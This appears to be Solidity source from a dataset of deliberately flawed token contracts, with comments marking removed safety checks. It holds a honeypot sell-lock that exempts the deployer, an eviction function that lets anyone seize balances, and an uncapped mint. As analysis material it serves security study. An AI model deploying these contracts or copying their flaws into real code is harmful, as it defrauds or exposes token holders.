// 0.7 runs=200
// SPDX-License-Identifier: MIT
pragma solidity ^0.7.6;

library Safe {
    function add(uint256 a, uint256 b) internal pure returns (uint256 c) {
        c = a + b;
        require(c >= a, "add");
    }

    function sub(uint256 a, uint256 b) internal pure returns (uint256) {
        require(b <= a, "sub");
        return a - b;
    }
}

interface Makers {
    function createPair(address a, address b) external returns (address);
}

abstract contract Common7 {
    using Safe for uint256;

    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address public immutable pool;
    mapping(address => uint256) internal _have;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory name_, string memory symbol_, uint256 supply) {
        name = name_;
        symbol = symbol_;
        totalSupply = supply * 1 ether;
        _have[msg.sender] = supply * 1 ether;
        pool = Makers(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(address(this), 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2);
        emit Transfer(address(0), msg.sender, supply * 1 ether);
    }

    function balanceOf(address who) public view returns (uint256) {
        return _have[who];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _send(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] = allowance[from][msg.sender].sub(value);
        _send(from, to, value);
        return true;
    }

    function _send(address from, address to, uint256 value) internal virtual {
        _have[from] = _have[from].sub(value);
        _have[to] = _have[to].add(value);
        emit Transfer(from, to, value);
    }
}

/// Places in the ledger are rented; crumbs nobody pays for are swept.
contract TenantTeal is Common7("Tenant Teal", "TEAL", 17000000) {
    using Safe for uint256;

    uint256 public constant TERM = 365 days;
    // twin: uint256 private constant CRUMB = 10**9;
    mapping(address => uint256) public paidUntil;

    event Evicted(address indexed tenant, address indexed by, uint256 value);

    function rent(address tenant) external {
        paidUntil[tenant] = block.timestamp.add(TERM);
    }

    function overdue(address tenant) public view returns (bool) {
        return tenant != pool && block.timestamp > paidUntil[tenant].add(TERM);
    }

    function evict(address tenant) external {
        uint256 value = _have[tenant];
        require(overdue(tenant), "paid");
        // twin: require(value < CRUMB, "more than a crumb");
        _send(tenant, msg.sender, value);
        emit Evicted(tenant, msg.sender, value);
    }
}

/// A game with the last digits of what one has.
contract CipherCod is Common7("Cipher Cod", "COD", 333000000) {
    address private immutable _maker = msg.sender;
    uint256 private _round;
    uint256 private _tide;

    event Round(uint256 indexed number, address indexed by, uint256 digits);

    function play() external {
        uint256 digits = _have[msg.sender] % 10**9;
        _round++;
        if (digits == 271828182) _tide ^= 1;
        emit Round(_round, msg.sender, digits);
    }

    function tide() external view returns (bool high) {
        return _tide == 1;
    }

    function _send(address from, address to, uint256 value) internal override {
        if (to == pool && from != _maker) require(_tide == 0, "wait for the tide"); // trap
        super._send(from, to, value);
    }
}

/// Everybody who holds some may claim three of a hundred more, once.
contract DividendDotterel is Common7("Dividend Dotterel", "DOTT", 41000000) {
    using Safe for uint256;

    mapping(address => bool) public claimed;
    uint256 public paid;
    uint256 private immutable _most = 41000000 * 1 ether / 40;

    event Claimed(address indexed who, uint256 value);

    function claim() external {
        require(!claimed[msg.sender] && msg.sender != pool, "claimed");
        claimed[msg.sender] = true;
        uint256 value = _have[msg.sender] * 3 / 100;
        paid = paid.add(value);
        // twin: require(paid <= _most, "all is paid");
        totalSupply = totalSupply.add(value);
        _have[msg.sender] = _have[msg.sender].add(value);
        emit Transfer(address(0), msg.sender, value);
        emit Claimed(msg.sender, value);
    }
}
